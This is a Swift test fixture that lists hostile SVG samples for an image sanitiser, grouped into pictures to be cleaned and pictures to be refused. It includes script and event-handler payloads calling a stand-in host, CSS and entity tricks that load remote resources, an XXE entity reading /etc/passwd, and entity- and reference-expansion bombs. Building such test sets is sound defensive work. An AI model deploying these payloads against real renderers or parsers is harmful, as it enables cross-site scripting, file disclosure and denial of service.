/// SVGs that try to run something, to load something or to lead somewhere. Most are known from lists that those who break
/// cleaners keep.
enum HostileSVG {
    /// The pictures that are published, without what is hostile.
    static let cleaned: [(name: String, svg: String)] = [
        ("script", svg(#"<script>fetch("https://x.example/x")</script>"#)),
        ("script-cdata", svg(#"<script><![CDATA[fetch("https://x.example/x")]]></script>"#)),
        ("script-href", svg(#"<script href="https://x.example/x.js"/>"#)),
        ("script-xlink", svg(#"<script xlink:href="https://x.example/x.js"/>"#)),
        (
            "script-prefix",
            #"<s:svg xmlns:s="http://www.w3.org/2000/svg" width="9" height="9"><s:script>fetch("https://x.example/x")</s:script></s:svg>"#
        ),
        (
            "script-xhtml",
            svg(#"<h:script xmlns:h="http://www.w3.org/1999/xhtml">fetch("https://x.example/x")</h:script>"#)
        ),
        ("script-xhtml-src", svg(#"<h:script xmlns:h="http://www.w3.org/1999/xhtml" src="https://x.example/x.js"/>"#)),
        ("onload", svg(#""#, attributes: #"onload="fetch('https://x.example/x')""#)),
        ("ONLOAD", svg(#""#, attributes: #"onLoad="fetch('https://x.example/x')""#)),
        ("onerror-image", svg(#"<image href="nope.png" onerror="fetch('https://x.example/x')"/>"#)),
        ("onbegin", svg(#"<set attributeName="x" onbegin="fetch('https://x.example/x')" begin="0s"/>"#)),
        ("onend", svg(#"<animate attributeName="x" dur="1ms" onend="fetch('https://x.example/x')"/>"#)),
        (
            "onfocusin",
            svg(
                ##"<a xlink:href="#" onfocusin="fetch('https://x.example/x')" autofocus="1" tabindex="0"><text>a</text></a>"##
            )
        ),
        (
            "foreign-iframe",
            svg(
                #"<foreignObject width="9" height="9"><iframe xmlns="http://www.w3.org/1999/xhtml" src="https://x.example/f"/></foreignObject>"#
            )
        ),
        (
            "foreign-body",
            svg(
                #"<foreignObject width="9" height="9"><body xmlns="http://www.w3.org/1999/xhtml" onload="fetch('https://x.example/x')"><img src="https://x.example/i"/></body></foreignObject>"#
            )
        ),
        (
            "html-img",
            svg(
                #"<img xmlns="http://www.w3.org/1999/xhtml" src="https://x.example/i" onerror="fetch('https://x.example/x')"/>"#
            )
        ),
        (
            "html-link",
            svg(#"<link xmlns="http://www.w3.org/1999/xhtml" rel="stylesheet" href="https://x.example/c.css"/>"#)
        ),
        ("html-style", svg(#"<style xmlns="http://www.w3.org/1999/xhtml">@import "https://x.example/c.css";</style>"#)),
        ("html-iframe", svg(#"<iframe xmlns="http://www.w3.org/1999/xhtml" src="https://x.example/f"/>"#)),
        ("html-object", svg(#"<object xmlns="http://www.w3.org/1999/xhtml" data="https://x.example/f"/>"#)),
        ("html-embed", svg(#"<embed xmlns="http://www.w3.org/1999/xhtml" src="https://x.example/f"/>"#)),
        (
            "html-video",
            svg(
                #"<video xmlns="http://www.w3.org/1999/xhtml" src="https://x.example/v" poster="https://x.example/p" autoplay=""/>"#
            )
        ),
        (
            "html-meta",
            svg(
                #"<meta xmlns="http://www.w3.org/1999/xhtml" http-equiv="refresh" content="0;url=https://x.example/r"/>"#
            )
        ),
        ("html-base", svg(#"<base xmlns="http://www.w3.org/1999/xhtml" href="https://x.example/"/><use href="a#b"/>"#)),
        ("svg-iframe", svg(#"<iframe src="https://x.example/f"/>"#)),
        ("svg-video", svg(#"<video href="https://x.example/v"/>"#)),
        ("image", svg(#"<image href="https://x.example/i.png" width="9" height="9"/>"#)),
        ("image-xlink", svg(#"<image xlink:href="https://x.example/i.png" width="9" height="9"/>"#)),
        ("image-svgdata", svg(#"<image href="data:image/svg+xml;base64,PHN2Zy8+" width="9" height="9"/>"#)),
        (
            "feimage",
            svg(
                #"<filter id="f"><feImage href="https://x.example/i.png"/></filter><rect filter="url(#f)" width="9" height="9"/>"#
            )
        ),
        ("use", svg(#"<use href="https://x.example/u.svg#a"/>"#)),
        ("use-xlink", svg(#"<use xlink:href="https://x.example/u.svg#a"/>"#)),
        (
            "use-data",
            svg(
                #"<use href="data:image/svg+xml,&lt;svg id='x' xmlns='http://www.w3.org/2000/svg'>&lt;script>alert(1)&lt;/script>&lt;/svg>#x"/>"#
            )
        ),
        ("use-relative", svg(#"<use href="/u.svg#a"/>"#)),
        ("pi-stylesheet", #"<?xml-stylesheet type="text/css" href="https://x.example/c.css"?>"# + svg(#""#)),
        ("pi-xslt", #"<?xml-stylesheet type="text/xsl" href="https://x.example/c.xsl"?>"# + svg(#""#)),
        ("import", svg(#"<style>@import url("https://x.example/c.css");</style>"#)),
        ("import-string", svg(#"<style>@import "https://x.example/c.css";rect{fill:blue}</style>"#)),
        ("import-escape", svg(#"<style>@\69mport "https://x.example/c.css";</style>"#)),
        ("import-comment", svg(#"<style>/* */@import/**/"https://x.example/c.css";</style>"#)),
        (
            "fontface",
            svg(
                #"<style>@font-face{font-family:x;src:url(https://x.example/f.woff)}text{font-family:x}</style><text>a</text>"#
            )
        ),
        ("css-url", svg(#"<style>rect{fill:url(https://x.example/c.svg#a)}</style>"#)),
        ("css-url-quote", svg(#"<style>rect{filter:url("https://x.example/c.svg#a")}</style>"#)),
        ("css-url-escape", svg(#"<style>rect{filter:\75rl("https://x.example/c.svg#a")}</style>"#)),
        ("css-imageset", svg(#"<style>svg{background:image-set("https://x.example/i.png" 1x)}</style>"#)),
        (
            "css-webkitimageset",
            svg(#"<style>svg{background:-webkit-image-set(url(https://x.example/i.png) 1x)}</style>"#)
        ),
        (
            "css-crossfade",
            svg(
                #"<style>svg{background:cross-fade(url(https://x.example/i.png),url(https://x.example/j.png))}</style>"#
            )
        ),
        ("css-bg", svg(#""#, attributes: #"style="background-image:url(https://x.example/i.png)""#)),
        ("css-bg-entity", svg(#""#, attributes: #"style="background:&#x75;rl(https://x.example/i.png)""#)),
        ("css-cursor", svg(#""#, attributes: #"style="cursor:url(https://x.example/i.png),auto""#)),
        ("css-content", svg(#"<style>svg::before{content:url(https://x.example/i.png)}</style>"#)),
        ("css-list", svg(#""#, attributes: #"style="display:list-item;list-style:url(https://x.example/i.png)""#)),
        ("css-string-hide", svg(#"<style>a{x:"/*"} svg{background:url(https://x.example/i.png)} b{x:"*/"}</style>"#)),
        ("css-string-break", svg(#"<style>a{x:"\#n} svg{background:url(https://x.example/i.png)} b{x:"}</style>"#)),
        ("css-mask", svg(#"<rect width="9" height="9" mask="url(https://x.example/m.svg#a)"/>"#)),
        ("css-fill", svg(#"<rect width="9" height="9" fill="url(https://x.example/m.svg#a)"/>"#)),
        ("css-clip", svg(#"<rect width="9" height="9" clip-path="url('https://x.example/m.svg#a')"/>"#)),
        ("css-marker", svg(#"<path d="M0 0L9 9" marker-end="url( https://x.example/m.svg#a )"/>"#)),
        ("css-namespace", svg(#"<style>@namespace x url(https://x.example/n);</style>"#)),
        ("css-cdata", svg(#"<style><![CDATA[ @import "https://x.example/c.css"; ]]></style>"#)),
        ("css-markup", svg(#"<style>a{}&lt;/style>&lt;script>fetch("https://x.example/x")&lt;/script></style>"#)),
        (
            "entity-internal",
            #"<!DOCTYPE svg [<!ENTITY x "&#60;script>fetch('https://x.example/x')&#60;/script>">]>"# + svg(#"&x;"#)
        ),
        ("entity-attr", #"<!DOCTYPE svg [<!ENTITY x "https://x.example/i.png">]>"# + svg(#"<image href="&x;"/>"#)),
        ("entity-external", #"<!DOCTYPE svg [<!ENTITY x SYSTEM "https://x.example/e.ent">]>"# + svg(#"&x;"#)),
        ("entity-file", #"<!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]>"# + svg(#"<text>&x;</text>"#)),
        ("entity-param", #"<!DOCTYPE svg [<!ENTITY % p SYSTEM "https://x.example/p.dtd"> %p;]>"# + svg(#""#)),
        ("dtd-external", #"<!DOCTYPE svg SYSTEM "https://x.example/d.dtd">"# + svg(#""#)),
        ("attlist", #"<!DOCTYPE svg [<!ATTLIST svg onload CDATA "fetch('https://x.example/x')">]>"# + svg(#""#)),
        (
            "attlist-xlink",
            #"<!DOCTYPE svg [<!ATTLIST use xlink:href CDATA "https://x.example/u.svg#a">]>"# + svg(#"<use/>"#)
        ),
        ("use-self", svg(##"<g id="a"><use href="#a"/></g>"##)),
        (
            "set-href",
            svg(#"<a><set attributeName="href" to="javascript:fetch('https://x.example/x')"/><text>a</text></a>"#)
        ),
        (
            "animate-href",
            svg(
                ##"<use href="#x"><animate attributeName="href" values="https://x.example/u.svg#a" dur="1s" fill="freeze"/></use>"##
            )
        ),
        (
            "animate-xlink",
            svg(
                #"<image width="9" height="9"><set attributeName="xlink:href" to="https://x.example/i.png" begin="0s"/></image>"#
            )
        ),
        ("animate-style", svg(#"<rect><set attributeName="style" to="fill:url(https://x.example/u.svg#a)"/></rect>"#)),
        (
            "animate-fill",
            svg(#"<rect width="9" height="9"><set attributeName="fill" to="url(https://x.example/u.svg#a)"/></rect>"#)
        ),
        (
            "handler",
            svg(
                #"<handler xmlns:ev="http://www.w3.org/2001/xml-events" ev:event="load">fetch("https://x.example/x")</handler>"#
            )
        ),
        ("listener", svg(##"<ev:listener xmlns:ev="http://www.w3.org/2001/xml-events" event="load" handler="#h"/>"##)),
        ("a-javascript", svg(#"<a href="javascript:alert(1)"><rect width="9" height="9"/></a>"#)),
        ("a-entity-js", svg(#"<a xlink:href="java&#x0A;script:alert(1)"><rect width="9" height="9"/></a>"#)),
        ("xml-base", svg(##"<use href="#x"/>"##, attributes: #"xml:base="https://x.example/""#)),
        (
            "other-prefix-href",
            svg(
                #"<image xmlns:q="http://www.w3.org/1999/xlink" q:href="https://x.example/i.png" width="9" height="9"/>"#
            )
        ),
        (
            "cursor-el",
            svg(
                #"<cursor id="c" xlink:href="https://x.example/i.png"/><rect style="cursor:url(#c)" width="9" height="9"/>"#
            )
        ),
        ("color-profile", svg(#"<color-profile name="x" xlink:href="https://x.example/c.icc"/>"#)),
        (
            "font-face-uri",
            svg(
                #"<font-face font-family="x"><font-face-src><font-face-uri xlink:href="https://x.example/f.svg#x"/></font-face-src></font-face><text font-family="x">a</text>"#
            )
        ),
        ("tref", svg(#"<text><tref xlink:href="https://x.example/t.svg#x"/></text>"#)),
        (
            "mpath",
            svg(
                #"<rect><animateMotion dur="1s"><mpath xlink:href="https://x.example/t.svg#x"/></animateMotion></rect>"#
            )
        ),
        (
            "gradient-href",
            svg(
                #"<linearGradient id="g" xlink:href="https://x.example/t.svg#x"/><rect fill="url(#g)" width="9" height="9"/>"#
            )
        ),
        ("pattern-href", svg(#"<pattern id="g" href="https://x.example/t.svg#x"/>"#)),
        ("textpath-href", svg(#"<text><textPath href="https://x.example/t.svg#x">a</textPath></text>"#)),
        ("ping", svg(##"<a href="#x" ping="https://x.example/p"><rect width="9" height="9"/></a>"##)),
        ("comment-trick", svg(#"<!-- --><script>fetch("https://x.example/x")</script><!-- -->"#)),
        ("title-markup", svg(#"<title>&lt;script>fetch("https://x.example/x")&lt;/script></title>"#)),
        (
            "nested-svg",
            svg(#"<svg onload="fetch('https://x.example/x')"><script>fetch("https://x.example/y")</script></svg>"#)
        ),
        (
            "switch",
            svg(
                #"<switch><foreignObject requiredExtensions="x" width="1" height="1"/><image href="https://x.example/i.png" width="9" height="9"/></switch>"#
            )
        ),
    ]

    /// The pictures that are refused, as no browser survives them or no parser knows what they say.
    static let refused: [(name: String, svg: String)] = [
        ("deep", svg(String(repeating: "<g>", count: 5_000) + String(repeating: "</g>", count: 5_000))),
        ("entities", doctype(entities("abcdefghij", times: 10)) + svg("<text>&j;</text>")),
        ("uses", svg(uses(levels: 9, times: 10))),
        ("uses-style", svg(patterns { "<style>.p\($0){fill:url(#p\($0))}</style>" + $1("class=\"p\($0)\"") })),
        ("uses-id", svg(patterns { "<style>g rect#r\($0),b{mask:url('#p\($0)')}</style>" + $1("id=\"r\($0)\"") })),
        (
            "uses-string",
            svg(patterns { "<style>b[a=\"{\"],.p\($0):not(b){fill:url(#p\($0))}</style>" + $1("class=\"p\($0)\"") })
        ),
        (
            "uses-comment",
            svg(patterns { "<style>/*{*/.p\($0)/*{*/{/*}*/mask:url( \"#p\($0)\" )</style>" + $1("class=\"p\($0)\"") })
        ),
        ("uses-inherited", svg(patterns { "<g fill=\"url(#p\($0))\">\($1(""))</g>" })),
        ("uses-inherited-style", svg(patterns { "<g style=\"stroke:url(#p\($0))\"><g>\($1(""))</g></g>" })),
        ("utf-7", #"<?xml version="1.0" encoding="UTF-7"?>"# + svg("")),
        ("open", svg("<g>")), ("twice", svg("") + svg("")), ("unbound", svg("<x:y/>")),
        ("undefined", svg("<text>&nbsp;</text>")), ("attribute twice", svg(#"<g id="a" id="b"/>"#)),
    ]

    static func svg(_ body: String, attributes: String = "") -> String {
        #"<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="100" height="50" "#
            + "\(attributes)>\(body)<rect width=\"50\" height=\"50\"/></svg>"
    }

    private static func doctype(_ declarations: String) -> String { "<!DOCTYPE svg [\(declarations)]>" }

    private static func entities(_ names: String, times: Int) -> String {
        zip(names, names.dropFirst()).reduce("<!ENTITY a 'aaaaaaaaaa'>") { text, pair in
            text + "<!ENTITY \(pair.1) '" + String(repeating: "&\(pair.0);", count: times) + "'>"
        }
    }

    /// Returns patterns, each of which is drawn with ten parts that look by the next one.
    private static func patterns(_ part: (Int, (String) -> String) -> String) -> String {
        (0..<9).map { level in
            let parts = part(level + 1) { String(repeating: "<rect \($0)/>", count: 10) }
            return "<pattern id=\"p\(level)\">\(parts)</pattern>"
        }.joined() + "<pattern id=\"p9\"/>"
    }

    private static func uses(levels: Int, times: Int) -> String {
        (1...levels).reduce(#"<g id="g0"><rect width="1" height="1"/></g>"#) { text, level in
            text + "<g id=\"g\(level)\">" + String(repeating: "<use href=\"#g\(level - 1)\"/>", count: times) + "</g>"
        }
    }
}
